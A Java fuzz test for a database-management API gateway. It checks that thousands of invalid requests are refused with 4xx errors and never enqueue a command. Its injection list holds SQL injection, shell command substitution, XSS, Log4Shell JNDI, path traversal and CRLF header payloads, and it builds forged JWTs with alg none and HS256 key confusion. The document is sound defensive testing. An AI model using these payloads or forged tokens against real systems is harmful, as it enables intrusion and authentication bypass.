package io.pgwarden.gateway;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import io.pgwarden.contracts.Topics;
import io.pgwarden.embedded.LocalIssuer;
import io.pgwarden.testing.KafkaAndPostgresResource;
import io.pgwarden.testing.TopicTail;
import io.quarkus.test.common.WithTestResource;
import io.quarkus.test.junit.QuarkusTest;
import io.restassured.RestAssured;
import io.restassured.http.ContentType;
import org.apache.kafka.clients.consumer.ConsumerConfig;
import org.apache.kafka.clients.consumer.KafkaConsumer;
import org.apache.kafka.common.TopicPartition;
import org.apache.kafka.common.serialization.ByteArrayDeserializer;
import org.jose4j.jws.AlgorithmIdentifiers;
import org.jose4j.jws.JsonWebSignature;
import org.jose4j.jwt.JwtClaims;
import org.jose4j.keys.HmacKey;
import org.junit.jupiter.api.Test;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.InputStream;
import java.io.OutputStream;
import java.net.Socket;
import java.net.SocketTimeoutException;
import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.time.Duration;
import java.time.Instant;
import java.util.ArrayList;
import java.util.Base64;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.TreeMap;
import java.util.function.Supplier;

import static io.restassured.RestAssured.given;
import static org.assertj.core.api.Assertions.assertThat;
import static org.awaitility.Awaitility.await;

/**
 * Issue 11's fuzz test: a few thousand requests, each made invalid by construction (one defect the gateway must
 * refuse before anything is stored: a bad token or role, a bad path segment, a malformed, oversized or mistyped body,
 * a wrong content type, a bad Idempotency-Key or X-Correlation-Id), decorated with harmless noise (large padding
 * headers, odd Accept headers). Every answer must be a 4xx problem+json, none a 5xx, and the commands topic must get
 * no record from the run. The requests come from a seed printed at the start; {@code -Dfuzz.seed=} replays a run and
 * {@code -Dfuzz.requests=} sets how many. Requests are written byte by byte ({@link RawHttp}'s way) since HTTP clients
 * refuse or rewrite most of them.
 */
@QuarkusTest
@WithTestResource(KafkaAndPostgresResource.class)
@WithTestResource(SignedIn.class)
class GatewayFuzzIT {
    private static final Duration WAIT = Duration.ofSeconds(60);
    private static final ObjectMapper JSON = new ObjectMapper();
    private static final int MAX_BODY = 16 * 1024;

    private static final List<String> INJECTIONS = List.of("' OR '1'='1", "'; DROP TABLE gateway.commands; --",
            "$(reboot)", "`id`", "<script>alert(1)</script>", "{{7*7}}", "${jndi:ldap://x.example/a}", "%00", "\u0000",
            "..", ".", "../../etc/passwd", "..%2f..%2f", "Node001", "node_001", "-node", "node-", "node.", "ünïcødé",
            "节点", "\uD83D\uDE00", "\u202Eevil", "a b", "a/b", "a\\b", "a;b", "a?b=c", "a#b", "%", "%zz", "\r\nX-Evil: 1");
    private static final List<String> MALFORMED = List.of("{", "[", "{\"reason\":", "{\"reason\": \"x\"",
            "{reason: \"x\"}", "{'reason': 'x'}", "{\"reason\": \"x\",}", "{\"reason\": NaN}", "\u0001{}",
            "{\"reason\": \"a\u0001b\"}", "{\"zzz\": 1}", "{\"powerOn\": \"perhaps\"}",
            "{\"method\": \"tape\"}", "{\"targetNode\": \"Bad_Node!\"}", "{\"moveBack\": []}", "{\"reason\": {}}",
            "{\"reason\": \"" + "x".repeat(600) + "\"}", "{\"cron\": \"\"}", "{\"backupId\": \"../x\"}", "{{",
            "{\"reason\": [\"x\"]}", "{\"backupId\": null, \"reason\": \"x\"}");
    private static final List<String> CONTENT_TYPES = List.of("text/plain", "application/xml", "text/html",
            "multipart/form-data; boundary=x", "application/x-www-form-urlencoded", "application/octet-stream",
            "application/jsonx", "image/png");
    private static final List<String> ACCEPTS = List.of("application/json", "*/*", "text/html", "application/xml",
            "application/problem+json", "text/event-stream", "garbage/garbage;;;", "");

    /** A command route; {x} marks a path segment that is validated (a name or an id). */
    private record Route(String method, String path, boolean takesBody) {
    }

    private static final List<Route> COMMANDS = List.of(
            new Route("POST", "/api/v1/nodes/{x}/cordon", true),
            new Route("POST", "/api/v1/nodes/{x}/uncordon", true),
            new Route("POST", "/api/v1/nodes/{x}/unfence", true),
            new Route("POST", "/api/v1/failover/pause", true),
            new Route("POST", "/api/v1/failover/resume", true),
            new Route("POST", "/api/v1/clusters/{x}/{x}/failover", true),
            new Route("POST", "/api/v1/clusters/{x}/{x}/failback", true),
            new Route("POST", "/api/v1/clusters/{x}/{x}/stop", true),
            new Route("POST", "/api/v1/clusters/{x}/{x}/start", true),
            new Route("POST", "/api/v1/clusters/{x}/{x}/backups", true),
            new Route("POST", "/api/v1/clusters/{x}/{x}/restore", true),
            new Route("PUT", "/api/v1/clusters/{x}/{x}/backup-schedule", true),
            new Route("DELETE", "/api/v1/clusters/{x}/{x}/backup-schedule", false),
            new Route("POST", "/api/v1/backups/{x}/verify", true),
            new Route("DELETE", "/api/v1/backups/{x}", false),
            new Route("POST", "/api/v1/restores/{x}/undo", true));
    private static final List<Route> READS = List.of(
            new Route("GET", "/api/v1/nodes", false), new Route("GET", "/api/v1/clusters", false),
            new Route("GET", "/api/v1/incidents", false), new Route("GET", "/api/v1/commands/{x}", false),
            new Route("GET", "/api/v1/commands", false), new Route("GET", "/api/v1/clusters/{x}/{x}/backups", false),
            new Route("GET", "/api/v1/clusters/{x}/{x}/backup-schedule", false),
            new Route("GET", "/api/v1/backup-schedules", false));

    /** One generated request: what is wrong with it, and its bytes. */
    private record Fuzzed(String defect, String summary, byte[] head, byte[] body, boolean bodyAfterAnswer,
                          boolean unparsable) {
    }

    private record Answer(int status, String contentType, String body) {
    }

    private Random random;
    private Map<String, String> tokens;

    @Test
    void no_invalid_request_gets_a_5xx_or_a_bare_error_or_enqueues_a_command() throws Exception {
        long seed = Long.getLong("fuzz.seed", System.nanoTime());
        int requests = Integer.getInteger("fuzz.requests", 3000);
        System.out.printf("GatewayFuzzIT: seed %d, %d requests (replay with -Dfuzz.seed=%d)%n", seed, requests, seed);
        random = new Random(seed);
        tokens = badTokens();

        try (TopicTail tail = new TopicTail(KafkaAndPostgresResource.bootstrapServers(), Topics.COMMANDS);
             KafkaConsumer<byte[], byte[]> offsets = new KafkaConsumer<>(Map.of(
                     ConsumerConfig.BOOTSTRAP_SERVERS_CONFIG, KafkaAndPostgresResource.bootstrapServers()),
                     new ByteArrayDeserializer(), new ByteArrayDeserializer())) {
            List<TopicPartition> partitions = offsets.partitionsFor(Topics.COMMANDS).stream()
                    .map(p -> new TopicPartition(p.topic(), p.partition())).toList();
            // A valid command before and one after: the outbox relays in id order, so once a marker is on the topic
            // every command stored before it is too. Between the two counts, only what the run enqueued.
            long before = settledEndOffset(offsets, partitions, tail, cordon("fuzz-before"));

            Map<Integer, Integer> statuses = new TreeMap<>();
            Map<String, Integer> defects = new TreeMap<>();
            Map<String, List<String>> violations = new LinkedHashMap<>();
            Map<String, Integer> refusedByHttp = new TreeMap<>();
            int accepted = 0;
            for (int i = 0; i < requests; i++) {
                Fuzzed request = generate();
                defects.merge(request.defect(), 1, Integer::sum);
                Answer answer;
                try {
                    answer = send(request);
                } catch (IOException e) {
                    if (request.unparsable()) {
                        refusedByHttp.merge(request.defect() + " -> connection closed", 1, Integer::sum);
                        continue;
                    }
                    violations.computeIfAbsent("no answer", k -> new ArrayList<>())
                            .add("#" + i + " " + request.summary() + ": " + e);
                    continue;
                }
                statuses.merge(answer.status(), 1, Integer::sum);
                if (answer.status() == 202) {
                    accepted++;
                }
                if (request.unparsable() && answer.status() >= 400 && answer.status() < 500
                        && (answer.contentType() == null || !answer.contentType().startsWith(Problem.MEDIA_TYPE))) {
                    refusedByHttp.merge(request.defect() + " -> " + answer.status(), 1, Integer::sum);
                    continue;
                }
                String wrong = wrong(answer);
                if (wrong != null) {
                    violations.computeIfAbsent(wrong, k -> new ArrayList<>()).add("#" + i + " [" + request.defect()
                            + "] " + request.summary() + " -> " + answer.status() + " " + answer.contentType() + " "
                            + abbreviate(answer.body()));
                }
            }
            long after = settledEndOffset(offsets, partitions, tail, cordon("fuzz-after"));
            long enqueued = after - before - 1;

            System.out.printf("GatewayFuzzIT: defects %s%nGatewayFuzzIT: statuses %s%nGatewayFuzzIT: refused by the HTTP"
                    + " layer before any route (no problem+json possible) %s%nGatewayFuzzIT: 202 answers %d, records on"
                    + " %s during the run %d%n", defects, statuses, refusedByHttp, accepted, Topics.COMMANDS, enqueued);
            violations.forEach((kind, list) -> System.out.printf("GatewayFuzzIT: %d x %s, e.g.%n  %s%n", list.size(),
                    kind, String.join("\n  ", list.subList(0, Math.min(5, list.size())))));
            assertThat(violations).as("answers that are not a 4xx problem+json (seed %d)", seed).isEmpty();
            // Every request is invalid by construction, so none may be accepted, and the topic must show it.
            assertThat(accepted).as("202 answers (seed %d)", seed).isZero();
            assertThat(enqueued).as("commands enqueued during the run; 202 answers were %d (seed %d)", accepted, seed)
                    .isEqualTo(accepted);
        }
    }

    private static String cordon(String reason) {
        return given().contentType(ContentType.JSON).body("{\"reason\":\"" + reason + "\"}")
                .post("/api/v1/nodes/node001/cordon").then().statusCode(202).extract().path("id");
    }

    /** The topic's record count once the marker command is on it and nothing more arrives for a moment. */
    private static long settledEndOffset(KafkaConsumer<byte[], byte[]> offsets, List<TopicPartition> partitions,
                                         TopicTail tail, String markerId) {
        tail.await(TopicTail.withId(markerId), WAIT);
        long[] last = {-1};
        await().atMost(WAIT).pollInterval(Duration.ofMillis(500)).until(() -> {
            long now = offsets.endOffsets(partitions).values().stream().mapToLong(Long::longValue).sum();
            boolean settled = now == last[0];
            last[0] = now;
            return settled;
        });
        return last[0];
    }

    /** Null when the answer is a 4xx problem+json naming its own status; else what is wrong with it. */
    private static String wrong(Answer answer) {
        if (answer.status() >= 500) {
            return "5xx";
        }
        if (answer.status() < 400) {
            return "not refused (" + answer.status() + ")";
        }
        if (answer.contentType() == null || !answer.contentType().startsWith(Problem.MEDIA_TYPE)) {
            return answer.status() + " without problem+json";
        }
        try {
            JsonNode problem = JSON.readTree(answer.body());
            return problem.path("status").asInt() == answer.status() && problem.hasNonNull("title") ? null
                    : answer.status() + " with a problem that does not name its status and title";
        } catch (IOException e) {
            return answer.status() + " with a problem body that is not JSON";
        }
    }

    // ---- generation ----

    private Fuzzed generate() {
        int kind = random.nextInt(100);
        if (kind < 30) {
            return badToken();
        } else if (kind < 45) {
            return badSegment();
        } else if (kind < 65) {
            return badBody();
        } else if (kind < 75) {
            return wrongContentType();
        } else if (kind < 85) {
            return oversized();
        } else {
            return badHeader();
        }
    }

    /** Any route, any body: the token alone makes it a 401 or 403. */
    private Fuzzed badToken() {
        boolean command = random.nextInt(3) > 0;
        Route route = pick(command ? COMMANDS : READS);
        List<String> names = new ArrayList<>(tokens.keySet());
        if (command) {
            names.add("viewer");
        }
        String which = pick(names);
        String token = which.equals("viewer") ? SignedIn.bearer("fuzz-viewer", Roles.VIEWER) : tokens.get(which);
        Request r = new Request(route.method(), fill(route.path(), this::validName));
        if (token != null) {
            r.header("Authorization", token);
        }
        if (route.takesBody()) {
            r.json(random.nextBoolean() ? "{}" : pick(MALFORMED));
        }
        return r.done("token " + which);
    }

    private Fuzzed badSegment() {
        Route route = pick(COMMANDS.stream().filter(c -> c.path().contains("{x}")).toList());
        String path = route.path();
        int bad = random.nextInt((int) path.chars().filter(c -> c == '{').count());
        StringBuilder filled = new StringBuilder();
        int at = 0;
        for (int i = 0; at < path.length(); i++) {
            int next = path.indexOf("{x}", at);
            if (next < 0) {
                filled.append(path, at, path.length());
                break;
            }
            filled.append(path, at, next).append(i == bad ? badName() : validName());
            at = next + 3;
        }
        Request r = new Request(route.method(), filled.toString()).admin();
        if (route.takesBody()) {
            r.json("{}");
        }
        return r.done("path segment");
    }

    private Fuzzed badBody() {
        Route route = pick(COMMANDS.stream().filter(Route::takesBody).toList());
        String body = random.nextInt(4) == 0 ? "{{" + randomText(1 + random.nextInt(3000)) : pick(MALFORMED);
        return new Request(route.method(), fill(route.path(), this::validName)).admin().json(body).done("body");
    }

    private Fuzzed wrongContentType() {
        Route route = pick(COMMANDS.stream().filter(Route::takesBody).toList());
        Request r = new Request(route.method(), fill(route.path(), this::validName)).admin();
        String form = "reason=" + URLEncoder.encode(randomText(50), StandardCharsets.UTF_8);
        if (random.nextInt(5) == 0) {
            return r.body(null, form.getBytes(StandardCharsets.UTF_8)).done("content type missing"); // and not JSON
        }
        String body = random.nextBoolean() ? "{}" : form;
        return r.body(pick(CONTENT_TYPES), body.getBytes(StandardCharsets.UTF_8)).done("content type");
    }

    private Fuzzed oversized() {
        Route route = pick(COMMANDS.stream().filter(Route::takesBody).toList());
        byte[] body = ("{\"reason\":\"" + "x".repeat(MAX_BODY + random.nextInt(4 * MAX_BODY)) + "\"}")
                .getBytes(StandardCharsets.UTF_8);
        return new Request(route.method(), fill(route.path(), this::validName)).admin().bodyAfterAnswer()
                .body("application/json", body).done("oversized body");
    }

    private Fuzzed badHeader() {
        Route route = pick(COMMANDS);
        Request r = new Request(route.method(), fill(route.path(), this::validName)).admin();
        if (route.takesBody()) {
            r.json("{}");
        }
        String header = Requests.IDEMPOTENCY_HEADER;
        return switch (random.nextInt(7)) {
            case 0 -> r.header(header, "k".repeat(256 + random.nextInt(4000))).done("Idempotency-Key too long");
            case 1 -> r.header(header, "").done("Idempotency-Key empty");
            case 2 -> r.header(header, "a").header(header, "b").done("Idempotency-Key twice");
            case 3 -> r.header(header, "key-\u0001-" + random.nextInt()).done("Idempotency-Key control character");
            case 4 -> r.header(header, "ключ-" + pick(INJECTIONS)).done("Idempotency-Key not ASCII");
            case 5 -> r.header("X-Fuzz-Huge", "h".repeat(21 * 1024 + random.nextInt(40_000))).done("header over the limit");
            default -> r.header(Requests.CORRELATION_HEADER, pick(List.of("a b", "x".repeat(129), "<x>", "é", "a/b",
                    "'; DROP TABLE x; --"))).done("X-Correlation-Id");
        };
    }

    private String validName() {
        return pick(List.of("node001", "pg", "default", "db-1", "b-2026")) ;
    }

    /** Not a DNS label nor subdomain nor UUID: percent-encoded when it must be, literal where a client might send it. */
    private String badName() {
        return switch (random.nextInt(4)) {
            case 0 -> "a".repeat(254 + random.nextInt(2000));
            case 1 -> "..";
            case 2 -> "%2e%2e";
            // No suffix: "node-" plus a digit would be a valid name (the first run accepted five such requests).
            default -> URLEncoder.encode(pick(INJECTIONS), StandardCharsets.UTF_8)
                    .replace("+", "%20");
        };
    }

    private String fill(String path, Supplier<String> name) {
        while (path.contains("{x}")) {
            path = path.replaceFirst("\\{x}", name.get());
        }
        return path;
    }

    private String randomText(int length) {
        StringBuilder s = new StringBuilder();
        for (int i = 0; i < length; i++) {
            s.appendCodePoint(random.nextInt(10) == 0 ? 0x80 + random.nextInt(0x2000) : 0x20 + random.nextInt(0x5f));
        }
        return s.toString();
    }

    private <T> T pick(List<T> from) {
        return from.get(random.nextInt(from.size()));
    }

    /** Tokens the gateway must refuse, by name; "missing" sends no Authorization header. */
    private static Map<String, String> badTokens() throws Exception {
        Map<String, String> bad = new LinkedHashMap<>();
        bad.put("missing", null);
        bad.put("expired", "Bearer " + SignedIn.issuer().sign(LocalIssuer.claims("fuzz-late", List.of(Roles.ADMIN),
                Instant.now().minus(Duration.ofHours(3)), Duration.ofHours(1))));
        bad.put("other key", "Bearer " + LocalIssuer.in(Files.createTempDirectory("pgwarden-fuzz-other-key"))
                .token("fuzz-forger", List.of(Roles.ADMIN), Duration.ofHours(1)));
        JwtClaims foreign = LocalIssuer.claims("fuzz-foreigner", List.of(Roles.ADMIN), Instant.now(), Duration.ofHours(1));
        foreign.setIssuer("https://elsewhere.example/issuer");
        bad.put("wrong issuer", "Bearer " + SignedIn.issuer().sign(foreign));
        String adminClaims = LocalIssuer.claims("fuzz-none", List.of(Roles.ADMIN), Instant.now(), Duration.ofHours(1))
                .toJson();
        Base64.Encoder b64 = Base64.getUrlEncoder().withoutPadding();
        bad.put("alg none", "Bearer " + b64.encodeToString("{\"alg\":\"none\",\"typ\":\"JWT\"}".getBytes(StandardCharsets.UTF_8))
                + "." + b64.encodeToString(adminClaims.getBytes(StandardCharsets.UTF_8)) + ".");
        // The public key as an HMAC secret: the old algorithm-confusion attack on verifiers that trust the header.
        JsonWebSignature confused = new JsonWebSignature();
        confused.setPayload(adminClaims);
        confused.setAlgorithmHeaderValue(AlgorithmIdentifiers.HMAC_SHA256);
        confused.setKey(new HmacKey(Files.readAllBytes(SignedIn.issuer().publicKeyFile())));
        confused.setDoKeyValidation(false);
        bad.put("HS256 with the public key", "Bearer " + confused.getCompactSerialization());
        String valid = SignedIn.token("fuzz-tamper", Roles.ADMIN);
        int middle = valid.lastIndexOf('.') + 10;
        char flipped = valid.charAt(middle) == 'A' ? 'B' : 'A';
        bad.put("tampered signature", "Bearer " + valid.substring(0, middle) + flipped + valid.substring(middle + 1));
        bad.put("truncated", "Bearer " + valid.substring(0, valid.length() / 2));
        bad.put("garbage", "Bearer " + "not.a.jwt");
        bad.put("empty bearer", "Bearer ");
        bad.put("no scheme", valid);
        bad.put("basic", "Basic YWRtaW46YWRtaW4=");
        bad.put("unknown role", SignedIn.bearer("fuzz-dba", "dba"));
        return bad;
    }

    /** A request being built: headers in order (a name may repeat), then its body. */
    private final class Request {
        private final String method;
        private final String path;
        private final List<String[]> headers = new ArrayList<>();
        private String contentType;
        private byte[] body = new byte[0];
        private boolean bodyAfterAnswer;

        Request(String method, String path) {
            this.method = method;
            this.path = path;
            // Noise that is no defect by itself: a large padding header (under the 20K header limit), odd Accepts.
            if (random.nextInt(4) == 0) {
                header("X-Fuzz-Padding", "p".repeat(random.nextInt(12_000)));
            }
            if (random.nextInt(3) == 0) {
                header("Accept", pick(ACCEPTS));
            }
        }

        Request admin() {
            return header("Authorization", SignedIn.bearer(SignedIn.ADMIN_SUBJECT, Roles.ADMIN));
        }

        Request header(String name, String value) {
            headers.add(new String[]{name, value});
            return this;
        }

        Request json(String text) {
            return body("application/json", text.getBytes(StandardCharsets.UTF_8));
        }

        Request body(String type, byte[] bytes) {
            contentType = type;
            body = bytes;
            return this;
        }

        Request bodyAfterAnswer() {
            bodyAfterAnswer = true;
            return this;
        }

        Fuzzed done(String defect) {
            StringBuilder head = new StringBuilder(method).append(' ').append(path).append(" HTTP/1.1\r\n")
                    .append("Host: 127.0.0.1\r\nConnection: close\r\n");
            if (contentType != null) {
                head.append("Content-Type: ").append(contentType).append("\r\n");
            }
            head.append("Content-Length: ").append(body.length).append("\r\n");
            StringBuilder summary = new StringBuilder(method).append(' ').append(abbreviate(path));
            for (String[] h : headers) {
                head.append(h[0]).append(": ").append(h[1]).append("\r\n");
                if (!h[0].equals("X-Fuzz-Padding") && !h[0].equals("Authorization")) {
                    summary.append(" [").append(h[0]).append(": ").append(abbreviate(h[1])).append(']');
                }
            }
            head.append("\r\n");
            summary.append(" ").append(contentType).append(" ").append(body.length).append(" bytes: ")
                    .append(abbreviate(new String(body, StandardCharsets.UTF_8)));
            byte[] bytes = head.toString().getBytes(StandardCharsets.UTF_8);
            return new Fuzzed(defect, summary.toString(), bytes, body, bodyAfterAnswer, unparsable(bytes));
        }
    }

    /**
     * Whether Vert.x's HTTP decoder refuses the head before any route sees it (its own bare 400 or 431, as
     * HttpServerRequest.DEFAULT_INVALID_REQUEST_HANDLER answers): longer than quarkus.http.limits.max-header-size
     * (20K by default), or a header value with a control character, which Netty's header validation rejects.
     */
    private static boolean unparsable(byte[] head) {
        if (head.length > 20 * 1024) {
            return true;
        }
        String text = new String(head, StandardCharsets.ISO_8859_1);
        for (String line : text.substring(0, text.length() - 4).split("\r\n")) {
            if (line.chars().anyMatch(c -> c < 0x20 && c != '\t' || c == 0x7f)) {
                return true;
            }
        }
        return false;
    }

    // ---- transport ----

    /**
     * Writes the request and reads the answer. An oversized body is held back until the gateway had a moment to refuse
     * it by its Content-Length, as a client sending {@code Expect: 100-continue} would.
     */
    private static Answer send(Fuzzed request) throws IOException {
        try (Socket socket = new Socket("127.0.0.1", RestAssured.port)) {
            socket.setSoTimeout(30_000);
            OutputStream out = socket.getOutputStream();
            InputStream in = socket.getInputStream();
            out.write(request.head());
            out.flush();
            if (request.bodyAfterAnswer()) {
                socket.setSoTimeout(2_000);
                try {
                    return parse(readAll(in));
                } catch (SocketTimeoutException e) {
                    socket.setSoTimeout(30_000);
                }
            }
            out.write(request.body());
            out.flush();
            return parse(readAll(in));
        }
    }

    /**
     * Reads one answer: its head, then its Content-Length's bytes, or to the end. Not to the end always: a gateway that
     * refused a body it has not read keeps the connection open, and reading to the end lost its 413 at the timeout.
     */
    private static byte[] readAll(InputStream in) throws IOException {
        ByteArrayOutputStream response = new ByteArrayOutputStream();
        byte[] buffer = new byte[8192];
        int n;
        while ((n = in.read(buffer)) >= 0) {
            response.write(buffer, 0, n);
            String text = response.toString(StandardCharsets.ISO_8859_1);
            int end = text.indexOf("\r\n\r\n");
            if (end >= 0) {
                java.util.regex.Matcher length = java.util.regex.Pattern.compile("(?im)^content-length:\\s*(\\d+)")
                        .matcher(text.substring(0, end));
                if (length.find() && text.length() - end - 4 >= Integer.parseInt(length.group(1))) {
                    break;
                }
            }
        }
        return response.toByteArray();
    }

    private static Answer parse(byte[] bytes) throws IOException {
        String text = new String(bytes, StandardCharsets.UTF_8);
        int end = text.indexOf("\r\n\r\n");
        if (!text.startsWith("HTTP/1.1 ") || end < 0) {
            throw new IOException("not an HTTP answer: " + abbreviate(text));
        }
        String contentType = null;
        boolean chunked = false;
        for (String line : text.substring(0, end).split("\r\n")) {
            String lower = line.toLowerCase();
            if (lower.startsWith("content-type:")) {
                contentType = line.substring(13).trim();
            } else if (lower.startsWith("transfer-encoding:") && lower.contains("chunked")) {
                chunked = true;
            }
        }
        String body = text.substring(end + 4);
        return new Answer(Integer.parseInt(text.substring(9, 12)), contentType, chunked ? dechunk(body) : body);
    }

    private static String dechunk(String chunked) {
        StringBuilder body = new StringBuilder();
        int at = 0;
        while (at < chunked.length()) {
            int line = chunked.indexOf("\r\n", at);
            if (line < 0) {
                break;
            }
            int size = Integer.parseInt(chunked.substring(at, line).split(";")[0].trim(), 16);
            if (size == 0) {
                break;
            }
            // Sizes count bytes; the problem bodies are ASCII JSON, so characters will do.
            body.append(chunked, line + 2, Math.min(chunked.length(), line + 2 + size));
            at = line + 2 + size + 2;
        }
        return body.toString();
    }

    private static String abbreviate(String s) {
        String printable = s.replace("\r", "\\r").replace("\n", "\\n");
        return printable.length() <= 120 ? printable : printable.substring(0, 120) + "…(" + s.length() + ")";
    }
}
